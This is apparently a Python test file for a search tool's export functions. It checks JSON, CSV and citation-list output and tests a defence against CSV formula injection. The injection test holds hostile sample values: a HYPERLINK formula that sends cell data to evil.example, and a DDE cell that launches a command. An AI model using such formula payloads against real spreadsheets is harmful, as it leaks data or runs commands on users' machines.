"""qa.export on a real search: the three formats agree with the JSON they come from."""

from __future__ import annotations

import csv
import io
import json

import pytest

from qa.exceptions import QueryError
from qa.export import CSV_COLUMNS, export, to_citation_list, to_csv
from qa.highlight import add_marks
from qa.retrieval import Searcher


def test_formats_agree(searcher: Searcher) -> None:
    data = add_marks(searcher.search("城市安全监测框架", top_k=4).to_dict())
    assert json.loads(export(data, "json")) == data
    rows = list(csv.DictReader(io.StringIO(to_csv(data).lstrip("\ufeff"))))
    assert tuple(rows[0]) == CSV_COLUMNS
    assert [r["citation"] for r in rows] == [h["citation"] for h in data["results"]]
    assert [r["rank"] for r in rows] == ["1", "2", "3", "4"]
    entries = to_citation_list(data).strip().split("\n\n")
    assert [e.split(" — ", 1)[0] for e in entries] == [h["citation"] for h in data["results"]]
    assert all("\n" not in e for e in entries)


def test_footnotes_and_versions_are_kept() -> None:
    hit = {
        "rank": 1,
        "citation": "HSP/HA.2/4, para. 40",
        "text": "六个城市\n试点",
        "footnotes": [{"mark": "5", "text": "内罗毕……"}],
        "versions": [{"lang": "en", "citation": "HSP/HA.2/4, para. 40", "text": "Six cities"}],
        "lines": [1, 2],
    }
    row = next(csv.DictReader(io.StringIO(to_csv({"results": [hit]}).lstrip("\ufeff"))))
    assert row["footnotes"] == "[5] 内罗毕……"
    assert row["versions"] == "en: HSP/HA.2/4, para. 40 — Six cities"
    assert row["lines"] == "1-2"
    assert to_citation_list({"results": [hit]}) == "HSP/HA.2/4, para. 40 — 六个城市 试点 (footnotes: [5] 内罗毕……)\n"


def test_unknown_format() -> None:
    with pytest.raises(QueryError, match="xlsx"):
        export({"results": []}, "xlsx")


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_no_csv_cell_starts_as_a_formula(start: str) -> None:
    """OWASP "CSV Injection": a paragraph, section or footnote opening with =, +, -, @, tab or CR is
    read by spreadsheets as a formula; each such cell gets a leading ' (numbers stay numbers)."""
    payload = f'{start}HYPERLINK("http://evil.example/?"&A1,"click")'
    hit = {
        "rank": 1,
        "citation": f"{start}cmd|' /C calc'!A0",
        "text": payload,
        "section": f"{start}1+1",
        "score": -0.25,
        "footnotes": [{"mark": "1", "text": "x"}],
        "lines": [3, 4],
    }
    row = next(csv.DictReader(io.StringIO(to_csv({"results": [hit]}).lstrip("\ufeff"))))
    for column in ("citation", "section"):
        assert row[column].startswith("'" + start.strip()), (column, row[column])
    text_start = start if start.strip() else ""  # one_line() drops leading white space from the text
    assert row["text"].startswith("'" + text_start if text_start else "HYPERLINK")
    assert row["score"] == "-0.25" and row["rank"] == "1" and row["lines"] == "3-4"
    assert not [c for c in row.values() if c and c[0] in "=+-@\t\r" and c != "-0.25"]
